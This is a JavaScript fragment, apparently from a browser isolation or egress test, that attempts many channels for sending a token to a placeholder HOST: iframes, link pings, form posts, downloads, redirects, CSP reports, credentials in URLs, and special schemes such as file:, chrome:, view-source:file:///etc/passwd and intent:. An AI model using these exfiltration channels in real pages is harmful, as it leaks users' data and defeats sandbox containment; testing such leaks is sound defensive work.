// Ways to go somewhere. The letter comes first: without a click a browser gives one
// address to another program, and no more.
add("iframe", {src: "mailto:out@HOST?body=" + token});
add("a", {href: "#ping", ping: way("ping")}).click();
add("a", {href: way("new-tab"), target: "_blank", rel: "noopener"}).click();
attempt(() => window.open(way("window")));
attempt(() => window.open("about:blank").eval("fetch('" + way("from-window") + "', {mode: 'no-cors'}).catch(() => {})"));
// What loads in windows that are shown.
attempt(() => window.open("about:blank").document.write("<video src='" + way("video") + "'></video><video><source src='" + way("source") + "'></video><audio src='" + way("audio") + "' preload=auto></audio>" +
	"<video src='/playlist.m3u8?to=" + encodeURIComponent(way("hls")) + "'></video><img loading=lazy src='" + way("lazy") + "'><link rel=icon href='" + way("icon") + "'><script type=speculationrules>" + JSON.stringify({
		prefetch: [{source: "list", urls: [way("speculation")], eagerness: "immediate"}],
	}) + "<\/script>"));
add("iframe", {name: "form-NUMBER"});
const form = add("form", {action: "http://HOST/form", method: "post", target: "form-NUMBER"});
form.innerHTML = "<input name=t value=" + token + ">";
form.submit();
add("iframe", {name: "download-NUMBER"});
add("a", {href: way("download"), download: "out", target: "download-NUMBER"}).click();
add("iframe", {srcdoc: "<form><button formmethod=post formaction='" + way("formaction") + "'></button></form><script>document.querySelector('button').click()<\/script>"});
add("form", {action: way("form-tab"), target: "_blank"}).submit();
add("iframe", {src: "/refresh?to=" + encodeURIComponent(way("refresh-header"))});
add("iframe", {src: "/redirect?to=" + encodeURIComponent(way("redirected-frame"))});
add("iframe", {srcdoc: "<script>navigation.navigate('" + way("navigate") + "')<\/script>"});
add("iframe", {srcdoc: "<map name=m><area shape=default href='" + way("area") + "'></map><script>document.querySelector('area').click()<\/script>"});
add("iframe", {srcdoc: "<svg><a href='" + way("svg-link") + "'><text>a</text></a></svg><script>document.querySelector('a').dispatchEvent(new MouseEvent('click'))<\/script>"});
add("iframe", {src: "javascript:location='" + way("javascript") + "'"});
add("iframe", {srcdoc: "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri " + way("csp-meta") + "\"><img src=/none>"});
attempt(() => window.open("http://out:" + token + "@HOST/password"));
attempt(() => window.open("https://SECURE/hints?to=HOST"));
add("iframe", {srcdoc: "<meta http-equiv=refresh content='0; url=" + way("refresh") + "'>"});
add("iframe", {srcdoc: "<script>location = '" + way("location") + "'<\/script>"});
add("iframe", {src: "data:text/html,<script>fetch('" + way("data-frame").replace("?", "%3f") + "', {mode: 'no-cors'}).catch(() => {})<\/script>"});
for (const address of ["file:///etc/hostname?", "file://NAME/share/", "chrome://net-export/?", "chrome://crash/?", "devtools://devtools/bundled/inspector.html?ws=HOST/devtools&t=", "filesystem:http://HOST/temporary/", "view-source:file:///etc/passwd?",
	"chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html?http://HOST/extension?t=", "about:srcdoc?", "isolated-app://out/?", "intent://HOST/#Intent;scheme=http;S.t="]) {
	add("iframe", {src: address + token});
	attempt(() => fetch(address + token));
}
for (const scheme of ["tel:", "web+out:", "ftp://HOST/ftp?t=", "view-source:http://HOST/view-source?t=", "ms-word:ofe|u|http://HOST/office?t="])
	add("iframe", {src: scheme + token});

